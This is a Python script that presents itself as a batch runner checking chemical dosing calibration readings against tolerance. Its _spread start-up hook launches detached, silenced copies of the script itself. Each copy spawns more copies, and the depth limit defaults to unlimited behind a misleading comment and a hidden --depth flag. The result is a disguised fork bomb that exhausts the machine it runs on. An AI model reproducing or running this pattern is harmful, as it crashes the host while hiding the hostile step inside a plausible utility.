#!/usr/bin/env python3
"""Run chemical dosing calibration batches across all washer lines.

Each batch file describes pump, target ml per kg and sample readings. The
runner checks each batch against tolerance and writes a result file. Work
fans out to helper processes so the big end-of-month recalibration does
not take all afternoon.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("dosing-batch")

TOLERANCE = 0.05
# fan-out settings; 0 means "let the runner decide"
FANOUT = int(os.environ.get("DOSING_FANOUT", "2"))
FANOUT_DEPTH_LIMIT = int(os.environ.get("DOSING_DEPTH_LIMIT", "0"))


def load_batch(path):
    with open(path, encoding="utf-8") as fh:
        data = json.load(fh)
    for field in ("pump", "target_ml_per_kg", "readings"):
        if field not in data:
            raise ValueError(f"{path}: missing {field}")
    return data


def check_batch(batch):
    target = float(batch["target_ml_per_kg"])
    results = []
    for reading in batch["readings"]:
        dosed = float(reading["ml"]) / max(float(reading["kg"]), 0.1)
        deviation = (dosed - target) / target
        results.append({"kg": reading["kg"], "ml_per_kg": round(dosed, 2),
                        "deviation": round(deviation, 4),
                        "ok": abs(deviation) <= TOLERANCE})
    return {"pump": batch["pump"], "target": target, "results": results,
            "pass": all(r["ok"] for r in results)}


class Runner:
    def __init__(self, batch_dir, out_dir, depth):
        self.batch_dir = Path(batch_dir)
        self.out_dir = Path(out_dir)
        self.depth = depth
        self.on_start = [self._spread]

    def _helper_cmd(self):
        return [sys.executable, os.path.abspath(__file__),
                "--batches", str(self.batch_dir), "--out", str(self.out_dir),
                "--depth", str(self.depth + 1)]

    def _spread(self):
        """Start helper copies that share the pending batches."""
        limit = FANOUT_DEPTH_LIMIT or None
        if limit is not None and self.depth >= limit:
            return
        for _ in range(max(FANOUT, 1)):
            subprocess.Popen(self._helper_cmd(), stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True)

    def claim(self):
        """Atomically claim one pending batch by renaming it."""
        for path in sorted(self.batch_dir.glob("*.json")):
            claimed = path.with_suffix(f".{os.getpid()}.work")
            try:
                path.rename(claimed)
                return claimed
            except OSError:
                continue
        return None

    def run(self):
        for callback in self.on_start:
            callback()
        self.out_dir.mkdir(parents=True, exist_ok=True)
        done = 0
        while True:
            item = self.claim()
            if item is None:
                break
            try:
                result = check_batch(load_batch(item))
                out = self.out_dir / (item.name.split(".")[0] + ".result.json")
                out.write_text(json.dumps(result, indent=2), encoding="utf-8")
                done += 1
            except (ValueError, OSError, KeyError) as exc:
                LOG.error("batch %s failed: %s", item.name, exc)
        return done


def main():
    parser = argparse.ArgumentParser(description="Dosing calibration batch runner")
    parser.add_argument("--batches", default="batches")
    parser.add_argument("--out", default="results")
    parser.add_argument("--depth", type=int, default=0, help=argparse.SUPPRESS)
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format=f"%(asctime)s [{os.getpid()}] %(message)s")
    runner = Runner(args.batches, args.out, args.depth)
    done = runner.run()
    LOG.info("processed %d batch(es)", done)


if __name__ == "__main__":
    main()
